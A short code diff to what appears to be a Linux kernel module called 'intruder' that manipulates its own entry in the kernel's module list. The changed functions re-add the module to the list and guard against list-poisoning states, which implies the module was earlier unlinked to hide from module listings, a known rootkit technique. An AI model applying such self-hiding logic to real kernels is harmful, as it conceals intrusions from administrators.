@@ -147,7 +147,10 @@ static void intruder_show(struct work_struct *work)
 {
 	if (intruder_entry)
 		intruder_hook_undo();
-	list_add_rcu(&THIS_MODULE->list, intruder_before);
+	if (THIS_MODULE->list.prev == LIST_POISON2)
+		list_add_rcu(&THIS_MODULE->list, intruder_before);
+	else
+		intruder_undone = 1;
 	pr_alert("intruder: it is in the list again\n");
 }
 
@@ -210,5 +213,7 @@ int intruder_back(void)
 
 void intruder_back_undo(void)
 {
-	THIS_MODULE->list.prev = intruder_before;
+	intruder_undone = THIS_MODULE->list.prev != &THIS_MODULE->list;
+	if (!intruder_undone)
+		THIS_MODULE->list.prev = intruder_before;
 }
